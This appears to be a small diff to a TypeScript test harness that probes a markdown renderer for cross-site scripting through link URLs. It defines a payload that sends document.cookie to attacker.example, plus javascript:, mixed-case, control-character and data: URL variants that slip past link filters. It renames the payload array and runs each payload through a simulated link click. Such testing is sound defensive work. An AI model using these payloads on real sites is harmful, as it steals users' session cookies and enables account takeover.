@@ -32,7 +32,7 @@ function click(address: string): string {
 }
 
 const steal = `location='https://attacker.example/?'+document.cookie`
-const attacks = [
+const forms = [
   `javascript:${steal}`,
   `JavaScript:${steal}`,
   `\u0001javascript:${steal}`,
@@ -40,7 +40,7 @@ const attacks = [
   `data:text/html,<script>${steal}</script>`,
 ]
 
-export async function exploit(code: Code, _vary?: unknown, payloads = attacks): Promise<boolean> {
+export async function exploit(code: Code, _vary?: unknown, payloads = forms): Promise<boolean> {
   return payloads.some((target) => {
     const scripts = scriptsOf(render(code, `See the [release notes](${target})`))
     return scripts.some((address) => click(address).endsWith('session=5e1f'))
